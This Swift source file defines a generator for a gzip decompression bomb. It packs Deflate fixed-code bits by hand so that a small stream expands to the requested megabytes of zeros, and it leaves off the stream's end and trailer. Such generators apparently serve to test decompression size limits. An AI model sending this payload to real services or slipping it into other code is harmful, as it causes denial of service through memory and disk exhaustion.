/// A gzip stream (RFC 1952) whose content is far larger than itself, made without a compressor.
enum GzipBomb {
  /// About `megabytes` of zeros in a hundred and sixtieth of the bytes: a zero, then "258 times what stood
  /// before" again and again, in the fixed codes of RFC 1951. It has no end.
  static func bytes(megabytes: Int) -> [UInt8] {
    var bits = Bits()
    bits.append(0b1, count: 1)  // the last block
    bits.append(0b01, count: 2)  // with fixed codes
    bits.appendCode(0x30, count: 8)  // the literal 0
    for _ in 0..<(megabytes << 20) / 258 {
      bits.appendCode(0b1100_0101, count: 8)  // a length of 258
      bits.appendCode(0, count: 5)  // a distance of 1
    }
    return [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3] + bits.bytes
  }

  private struct Bits {
    var bytes: [UInt8] = []
    private var free = 0

    mutating func append(_ value: UInt, count: Int) {
      for place in 0..<count {
        if free == 0 {
          bytes.append(0)
          free = 8
        }
        bytes[bytes.count - 1] |= UInt8(value >> UInt(place) & 1) << UInt8(8 - free)
        free -= 1
      }
    }

    /// Codes are packed from their highest bit, unlike everything else.
    mutating func appendCode(_ code: UInt, count: Int) {
      for place in (0..<count).reversed() { append(code >> UInt(place) & 1, count: 1) }
    }
  }
}
